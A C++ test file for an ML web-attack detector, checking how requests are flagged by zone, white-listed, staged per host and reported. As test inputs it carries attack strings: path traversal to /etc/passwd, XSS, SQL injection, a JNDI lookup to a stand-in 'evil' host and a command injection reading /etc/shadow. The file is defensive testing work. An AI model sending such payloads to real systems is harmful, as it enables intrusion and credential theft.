#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>

#include "classify_fixture.h"
#include "core/data/hosts.h"
#include "orvik/classify/mlm.h"
#include "orvik/classify/preprocessing.h"

namespace tessel::orvik {
namespace {

using testing::attack_values;
using testing::request;

class ClassifyFlow : public ::testing::Test {
 protected:
  ClassifyFlow() { testing::write_models(dir.str(), "shop.test"); }

  ClassifyContext ctx(testing::Exceptions ex = {}, bool debug = false) {
    return testing::context(dir.str(), logs, testing::fake_services(rec, std::move(ex)), debug);
  }
  static MlHosts hosts(std::vector<std::string> list, bool ai_extra = true, Json db = Json::object()) {
    return MlHosts{std::move(db), ai_extra, std::move(list)};
  }
  bool has_line(const std::string& line) { return std::find(lines.begin(), lines.end(), line) != lines.end(); }

  tessel::testing::TempDir dir;
  tessel::testing::LogCapture logs;
  std::shared_ptr<testing::Recorded> rec = std::make_shared<testing::Recorded>();
  std::vector<std::string> lines;
};

RequestRecord attack_in_every_zone(const std::string& id) {
  return request(id, "shop.test",
                 {{"url", "/../../../etc/passwd"},
                  {"args", "id=15\r\n<script>alert(1)</script>"},
                  {"cookie", "' or 1=1 --"},
                  {"ua", "union select password from users"},
                  {"referer", "${jndi:ldap://evil/a}"},
                  {"other_headers", "accept: text/html\r\n<img src=x onerror=alert(1)>"},
                  {"body", "; cat /etc/shadow"}});
}

RequestRecord clean(const std::string& id, const std::string& vhost = "shop.test") {
  return request(id, vhost,
                 {{"url", "/index.html"}, {"args", "id=15\r\npage=2"}, {"ua", "Mozilla/5.0 (X11; Linux x86_64)"}});
}

// The three outputs of a detected request through the host object: the
// attack table, the broker rows, the report, the log lines; the clean
// request of a host in training is staged.
TEST_F(ClassifyFlow, AttackInEveryZoneIsReportedOnEveryChannel) {
  ClassifyContext cc = ctx();
  auto q_mt = cc.ctx.queues.q_mt_api;
  auto q_attack = cc.ctx.queues.q_attack_api;
  MLM mlm(Json{{"shop.test", dir.file("shop.test_1.db")}}, dir.str(), true, {"shop.test"}, cc.mt_fname, cc.ctx,
          cc.services);
  mlm.dfs_processing(nullptr, {}, RequestTable{attack_in_every_zone("r1"), clean("r2")});
  ASSERT_TRUE(mlm.join_workers(std::chrono::seconds(60)));
  lines = logs.take();

  auto tables = q_mt->drain();
  ASSERT_EQ(tables.size(), 1u);
  ASSERT_EQ(tables[0].size(), 1u);
  const RequestRecord& row = tables[0][0];
  EXPECT_EQ(row.request_id, "r1");
  EXPECT_EQ(row.bt, 12);
  EXPECT_EQ(row.mz, "uri|args|cookie|ua|referer|other_headers|body");
  // A flagged zone holds its flagged values only.
  EXPECT_EQ(row.args, "<script>alert(1)</script>");
  EXPECT_EQ(row.other_headers, "<img src=x onerror=alert(1)>");
  EXPECT_EQ(row.jbody, "");
  EXPECT_TRUE(row.orig_zone_data.empty());
  EXPECT_EQ(row.extras.size(), 1u);
  const std::string origin = row.extras.at("mz_origin");
  EXPECT_EQ(origin.rfind("{'uri': '" + base64_encode("/../../../etc/passwd") + "', 'args': '", 0), 0u) << origin;

  auto reports = q_attack->drain();
  ASSERT_EQ(reports.size(), 1u);
  EXPECT_EQ(reports[0].kind, 8);
  ASSERT_EQ(reports[0].table.size(), 1u);
  EXPECT_EQ(reports[0].table[0].extras.at("possible"), false);
  EXPECT_EQ(reports[0].table[0].extras.at("description"), "Corvane AI TESSEL");
  EXPECT_EQ(reports[0].table[0].extras.at("mz_origin"), origin);

  ASSERT_EQ(rec->published.size(), 1u);
  EXPECT_EQ(rec->published[0].first, 8);
  ASSERT_EQ(rec->published[0].second.size(), 1u);
  EXPECT_EQ(rec->published[0].second[0]["mz"], "uri|args|cookie|ua|referer|other_headers|body");
  EXPECT_FALSE(rec->published[0].second[0].contains("possible"));
  EXPECT_FALSE(rec->published[0].second[0].contains("orig_zone_data"));

  ASSERT_EQ(rec->staged.size(), 1u);
  EXPECT_EQ(rec->staged[0].first, "shop.test");
  ASSERT_EQ(rec->staged[0].second.size(), 1u);
  EXPECT_EQ(rec->staged[0].second[0].request_id, "r2");
  EXPECT_EQ(rec->staged[0].second[0].bt, 0);
  EXPECT_EQ(rec->staged[0].second[0].args, "id=15\r\npage=2");

  EXPECT_TRUE(has_line("info/ml: ML attack detection module is running"));
  for (const char* z : {"URL", "ARGS", "COOKIE", "USER-AGENT", "REFERER", "HEADERS", "BODY"})
    EXPECT_TRUE(has_line(std::string("info/ml: Analysis of request r1 (shop.test) is completed in zone ") + z +
                         ": anomaly detected"))
        << z;
  EXPECT_EQ(std::count_if(lines.begin(), lines.end(), [](const std::string& l) { return l.starts_with("error/"); }), 0)
      << ::testing::PrintToString(lines);
}

// Values the models flag but the white list accepts do not flag the zone.
TEST_F(ClassifyFlow, WhiteListedFlaggedValuesDoNotFlag) {
  // An all-digit value is white-listed in any zone, whatever the models say.
  ClassifyContext cc = ctx();
  ml_preprocessing(nullptr, {request("r1", "shop.test", {{"args", "' or 1=1 --"}, {"ua", "12345"}})}, {},
                   hosts({"shop.test"}), cc);
  auto tables = cc.ctx.queues.q_mt_api->drain();
  ASSERT_EQ(tables.size(), 1u);
  EXPECT_EQ(tables[0][0].mz, "args");
}

// A zone of a detected request that normalisation emptied is reported as
// received; a web-socket request's zones are not normalised.
TEST_F(ClassifyFlow, ReportedZonesEmptiedByNormalisationComeBackAsReceived) {
  ClassifyContext cc = ctx();
  RequestRecord ws = request("r2", "shop.test", {{"url", "/../../../etc/passwd"}, {"args", " ab "}});
  ws.request_type = "ws";
  ml_preprocessing(nullptr,
                   {request("r1", "shop.test", {{"url", "/../../../etc/passwd"}, {"args", "ab\r\ncd"}}), std::move(ws)},
                   {}, hosts({"shop.test"}), cc);
  auto tables = cc.ctx.queues.q_mt_api->drain();
  ASSERT_EQ(tables.size(), 1u);
  ASSERT_EQ(tables[0].size(), 2u);
  EXPECT_EQ(tables[0][0].mz, "uri");
  EXPECT_EQ(tables[0][0].url, "/../../../etc/passwd");
  EXPECT_EQ(tables[0][0].args, "ab\r\ncd");
  EXPECT_EQ(tables[0][1].mz, "uri");
  EXPECT_EQ(tables[0][1].args, " ab ");
}

TEST_F(ClassifyFlow, ExportedExceptionsClearOrNarrowTheVerdict) {
  ClassifyContext cc = ctx({{"r1", {"args"}}, {"r2", {"args", "cookie"}}});
  auto two = [](const std::string& id) {
    return request(id, "shop.test", {{"args", "<script>alert(1)</script>"}, {"cookie", "' or 1=1 --"}});
  };
  ml_preprocessing(nullptr, {two("r1"), two("r2")}, {}, hosts({"shop.test"}, true, Json{{"shop.test", "x.db"}}), cc);
  auto tables = cc.ctx.queues.q_mt_api->drain();
  ASSERT_EQ(tables.size(), 1u);
  ASSERT_EQ(tables[0].size(), 1u);
  EXPECT_EQ(tables[0][0].request_id, "r1");
  EXPECT_EQ(tables[0][0].mz, "cookie");
  EXPECT_EQ(tables[0][0].extras["mz_origin"], "{'cookie': '" + base64_encode("' or 1=1 --") + "'}");
  ASSERT_EQ(rec->staged.size(), 1u);
  ASSERT_EQ(rec->staged[0].second.size(), 1u);
  EXPECT_EQ(rec->staged[0].second[0].request_id, "r2");
  EXPECT_EQ(rec->staged[0].second[0].bt, 0);
  EXPECT_EQ(rec->staged[0].second[0].mz, "");
  EXPECT_EQ(rec->mt_loads, 1);
}

TEST_F(ClassifyFlow, HostWithoutModelsStagesEveryRecordAsItCame) {
  ClassifyContext cc = ctx({}, true);
  RequestRecord r = request("r1", "blog.test", {{"args", "a+b  c\r\nab\r\n<script>alert(1)</script>"}});
  r.content_type = "image/png";
  r.body = "binary";
  ml_preprocessing(nullptr, {r}, {}, hosts({"blog.test"}, true, Json{{"blog.test", "blog.db"}}), cc);
  EXPECT_TRUE(cc.ctx.queues.q_mt_api->drain().empty());
  ASSERT_EQ(rec->staged.size(), 1u);
  const RequestRecord& s = rec->staged[0].second.at(0);
  EXPECT_EQ(s.bt, 1);
  EXPECT_EQ(s.args, "a b c\r\n<script>alert(1)</script>");
  EXPECT_EQ(s.body, "");  // binary media type
  lines = logs.take();
  EXPECT_TRUE(has_line("debug/ml: Model for blog.test is not loaded, ai_extra will be disabled"));

  // Neither models nor staging: nothing at all.
  rec->staged.clear();
  ml_preprocessing(nullptr, {r}, {}, hosts({"blog.test"}), cc);
  EXPECT_TRUE(rec->staged.empty());
  EXPECT_TRUE(cc.ctx.queues.q_mt_api->drain().empty());
}

// "*" takes the rows no other entry takes, wherever it is listed; the
// models of the catch-all are those of its own file-name form.
TEST_F(ClassifyFlow, CatchAllStaysInForce) {
  testing::write_models(dir.str(), core::vhost_normalization("*"));
  for (const auto& list : {std::vector<std::string>{"other.test", "*"}, std::vector<std::string>{"*", "other.test"}}) {
    ClassifyContext cc = ctx();
    ml_preprocessing(nullptr,
                     {request("r1", "any.test", {{"args", "<script>alert(1)</script>"}}), clean("r2", "other.test")},
                     {}, hosts(list, true, Json{{"*", "all.db"}, {"other.test", "o.db"}}), cc);
    auto tables = cc.ctx.queues.q_mt_api->drain();
    ASSERT_EQ(tables.size(), 1u) << list[0];
    EXPECT_EQ(tables[0][0].request_id, "r1");
    ASSERT_EQ(rec->staged.size(), 1u);
    EXPECT_EQ(rec->staged[0].first, "other.test");
    rec->staged.clear();
  }
}

TEST_F(ClassifyFlow, WildcardEntriesUseTheirOwnModels) {
  testing::write_models(dir.str(), core::vhost_normalization(".shop.test"));
  ClassifyContext cc = ctx();
  ml_preprocessing(nullptr,
                   {request("r1", "eu.shop.test", {{"cookie", "' or 1=1 --"}}),
                    request("r2", "xshop.test", {{"cookie", "' or 1=1 --"}})},
                   {}, hosts({".shop.test"}), cc);
  auto tables = cc.ctx.queues.q_mt_api->drain();
  ASSERT_EQ(tables.size(), 1u);
  ASSERT_EQ(tables[0].size(), 1u);
  EXPECT_EQ(tables[0][0].request_id, "r1");
  EXPECT_EQ(tables[0][0].vhost, "eu.shop.test");
}

// Hosts listed with characters a file name cannot hold keep their models
// under a file-name-safe name; classification still finds them.
TEST_F(ClassifyFlow, HostsWithUnsafeCharactersAreClassified) {
  const std::pair<std::string, std::string> cases[] = {
      {"my_shop.test", "my_shop.test"},     {"shop.test:8080", "shop.test:8080"},  {"пример.рф", "пример.рф"},
      {".my_shop.test", "eu.my_shop.test"}, {"*.my_shop.test", "eu.my_shop.test"},
  };
  for (const auto& [entry, host] : cases) {
    testing::write_models(dir.str(), core::vhost_normalization(entry));
    ClassifyContext cc = ctx();
    ml_preprocessing(nullptr, {request("r1", host, {{"cookie", "' or 1=1 --"}})}, {}, hosts({entry}), cc);
    auto tables = cc.ctx.queues.q_mt_api->drain();
    ASSERT_EQ(tables.size(), 1u) << entry;
    ASSERT_EQ(tables[0].size(), 1u) << entry;
    EXPECT_EQ(tables[0][0].vhost, host);
    EXPECT_EQ(tables[0][0].mz, "cookie") << entry;
  }
}

struct SplitCase {
  std::vector<std::string> list;
  std::vector<std::string> hosts;
  // entry -> the hosts of its rows, in order (after any rewrite)
  std::map<std::string, std::vector<std::string>> want;
};

TEST_F(ClassifyFlow, BatchSplitByHost) {
  const SplitCase cases[] = {
      {{"d.test"}, {"d.test", "www.d.test", "x.d.test"}, {{"d.test", {"d.test", "d.test"}}}},
      {{"d.test", "www.d.test"}, {"d.test", "www.d.test"}, {{"d.test", {"d.test"}}, {"www.d.test", {"www.d.test"}}}},
      {{".d.test"},
       {"d.test", "x.d.test", "x.d.test.y", "xd.test"},
       {{".d.test", {"d.test", "x.d.test", "x.d.test.y"}}}},
      {{"*.d.test"}, {"d.test", "x.d.test", "y.x.d.test"}, {{"*.d.test", {"x.d.test", "y.x.d.test"}}}},
      {{".d.test", "x.d.test"}, {"x.d.test"}, {{".d.test", {"x.d.test"}}}},
      {{"D.test"}, {"d.test"}, {}},
  };
  for (const auto& c : cases) {
    rec->staged.clear();
    Json db = Json::object();
    for (const auto& e : c.list) db[e] = e + ".db";
    RequestTable t;
    for (std::size_t i = 0; i < c.hosts.size(); ++i) t.push_back(clean("r" + std::to_string(i), c.hosts[i]));
    ClassifyContext cc = ctx();
    ml_preprocessing(nullptr, t, {}, hosts(c.list, false, db), cc);
    std::map<std::string, std::vector<std::string>> got;
    for (const auto& [entry, rows] : rec->staged)
      for (const auto& r : rows) got[entry].push_back(r.vhost.get<std::string>());
    EXPECT_EQ(got, c.want) << ::testing::PrintToString(c.list);
  }
}

TEST_F(ClassifyFlow, EmptyNullHugeAndInvalidValues) {
  ClassifyContext cc = ctx();
  RequestRecord empty = request("r1", "shop.test", {});
  RequestRecord no_id = clean("r2");
  no_id.request_id = nullptr;
  RequestRecord no_host = clean("r3");
  no_host.vhost = nullptr;
  std::string huge;
  while (huge.size() < (1u << 20)) huge += "<script>alert(1)</script> ";
  RequestRecord big = request("r4", "shop.test", {{"body", huge}, {"args", "id=\xff\xfe<script>\r\n\xc3"}});
  RequestRecord attack = request("r5", "shop.test", {{"args", "' or 1=1 --"}});
  ml_preprocessing(nullptr, {empty, no_id, no_host, big, attack}, {},
                   hosts({"shop.test"}, true, Json{{"shop.test", "s.db"}}), cc);
  lines = logs.take();
  EXPECT_TRUE(has_line("error/ml: An error occurred while predicting the data: 'request_id'"));
  auto tables = cc.ctx.queues.q_mt_api->drain();
  ASSERT_EQ(tables.size(), 1u);
  std::vector<std::string> ids;
  for (const auto& r : tables[0]) ids.push_back(r.request_id.get<std::string>());
  EXPECT_NE(std::find(ids.begin(), ids.end(), "r5"), ids.end());
  // The empty request is judged clean and staged.
  ASSERT_EQ(rec->staged.size(), 1u);
  EXPECT_EQ(rec->staged[0].second.at(0).request_id, "r1");
  EXPECT_EQ(rec->staged[0].second.at(0).bt, 0);
}

TEST_F(ClassifyFlow, ModelsAreReadOnceUntilTheirFilesChange) {
  ClassifyContext cc = ctx();
  for (int i = 0; i < 3; ++i) ml_preprocessing(nullptr, {clean("r" + std::to_string(i))}, {}, hosts({"shop.test"}), cc);
  EXPECT_EQ(cc.models->loads(), 1u);
  testing::write_models(dir.str(), "shop.test");
  ml_preprocessing(nullptr, {clean("r9")}, {}, hosts({"shop.test"}), cc);
  EXPECT_EQ(cc.models->loads(), 2u);
  std::filesystem::remove(dir.file("shop.test_vect.ml"));
  tessel::testing::write_file(dir.file("shop.test_vect.ml"), "garbage");
  EXPECT_EQ(models_applications(*cc.models, dir.str(), {"shop.test"}, "shop.test", cc.ctx.sink).usable(), false);
  lines = logs.take();
  EXPECT_TRUE(has_line("error/ml: Re-train the model for virtual host shop.test"));
  EXPECT_EQ(models_applications(*cc.models, dir.str(), {"shop.test"}, "none.test", cc.ctx.sink).usable(), false);
  EXPECT_EQ(models_applications(*cc.models, dir.str(), {"*.shop.test"}, "shop.test", cc.ctx.sink).usable(), false);
  EXPECT_EQ(cc.models->loads(), 3u);
}

// A zone the model files leave out on purpose is not judged: no error per
// request, one warning per load. A zone missing from a pair that does not
// agree it was left out is an error for every request that meets it.
TEST_F(ClassifyFlow, ZoneLeftOutOfTheModels) {
  const std::string missing_line =
      "error/ml: An error occurred while processing request r{} (shop.test) by behavioral "
      "model in zone REFERER: 'referer'";
  const std::string warning =
      "warn/ml: The models of virtual host shop.test hold no behavioral model for zone REFERER (no normal values to "
      "learn from): its values are not judged";
  struct Case {
    const char* name;
    testing::ModelGaps gaps;
    bool left_out;
  } cases[] = {
      {"left out by both files", {{"referer"}, {"referer"}, {"referer"}}, true},
      {"older files without the zone", {{"referer"}, {}, {}}, false},
      {"only the forests say so", {{"referer"}, {"referer"}, {}}, false},
      {"only the vectorisers say so", {{"referer"}, {}, {"referer"}}, false},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    testing::write_models(dir.str(), "shop.test", c.gaps);
    ClassifyContext cc = ctx();
    // The attack value in the zone is never judged; the one in "args" is.
    const RequestTable batch = {request("r1", "shop.test", {{"args", "id=15"}, {"referer", "${jndi:ldap://evil/a}"}}),
                                request("r2", "shop.test", {{"args", "id=15"}}),
                                request("r3", "shop.test", {{"args", "' or 1=1 --"}, {"referer", "' or 1=1 --"}})};
    for (int round = 0; round < 2; ++round) ml_preprocessing(nullptr, batch, {}, hosts({"shop.test"}), cc);
    EXPECT_EQ(cc.models->loads(), 1u);
    lines = logs.take();
    const auto count = [&](const std::string& line) { return std::count(lines.begin(), lines.end(), line); };
    auto tables = cc.ctx.queues.q_mt_api->drain();
    ASSERT_EQ(tables.size(), 2u);
    for (const auto& t : tables) {
      ASSERT_EQ(t.size(), 1u);
      EXPECT_EQ(t[0].request_id, "r3");
      EXPECT_EQ(t[0].mz, "args");
    }
    for (const char* id : {"1", "2", "3"}) {
      std::string line = missing_line;
      line.replace(line.find("{}"), 2, id);
      EXPECT_EQ(count(line), c.left_out ? 0 : 2) << id;
    }
    EXPECT_EQ(count(warning), c.left_out ? 1 : 0) << ::testing::PrintToString(lines);
    if (c.left_out) {
      EXPECT_EQ(std::count_if(lines.begin(), lines.end(), [](const std::string& l) { return l.starts_with("error/"); }),
                0)
          << ::testing::PrintToString(lines);
      // A new load warns again.
      testing::write_models(dir.str(), "shop.test", c.gaps);
      ml_preprocessing(nullptr, batch, {}, hosts({"shop.test"}), cc);
      lines = logs.take();
      EXPECT_EQ(count(warning), 1);
    }
  }
}

// Labels kept for known values are those the models give.
TEST_F(ClassifyFlow, PredictionCacheGivesTheModelsLabels) {
  ClassifyContext cc = ctx();
  const ClassifyModels m = models_applications(*cc.models, dir.str(), {"shop.test"}, "shop.test", cc.ctx.sink);
  ASSERT_TRUE(m.usable());
  ASSERT_NE(m.cache, nullptr);
  std::vector<std::string> values = testing::normal_values();
  for (const auto& v : attack_values()) values.push_back(v);
  values.push_back("");
  std::vector<std::string_view> views(values.begin(), values.end());
  for (const auto& z : core::zones()) {
    const auto& rf = m.models.rf->at(z);
    const auto& vect = m.models.vect->at(z);
    const AnalysisResult plain = ml_analysis(rf, vect, "r", "h", z, views, cc.ctx.sink);
    for (int round = 0; round < 2; ++round) {
      const AnalysisResult cached = ml_analysis(rf, vect, "r", "h", z, views, cc.ctx.sink, m.cache.get());
      EXPECT_EQ(cached.res, plain.res) << z;
      EXPECT_EQ(cached.res_list, plain.res_list) << z;
    }
  }
  EXPECT_TRUE(logs.take().empty());
}

TEST_F(ClassifyFlow, AttackReportWithoutRowsOrColumns) {
  ClassifyContext cc = ctx();
  ml_attack_processing({}, cc);
  RequestRecord r = clean("r1");  // no mz_origin column
  ml_attack_processing({r}, cc);
  EXPECT_TRUE(cc.ctx.queues.q_mt_api->drain().empty());
  EXPECT_TRUE(cc.ctx.queues.q_attack_api->drain().empty());
  EXPECT_TRUE(rec->published.empty());
  lines = logs.take();
  ASSERT_EQ(lines.size(), 1u);
  EXPECT_EQ(lines[0], "error/ml: An error occurred in ml_attack_processing: \"['mz_origin'] not in index\"");
}

}  // namespace
}  // namespace tessel::orvik
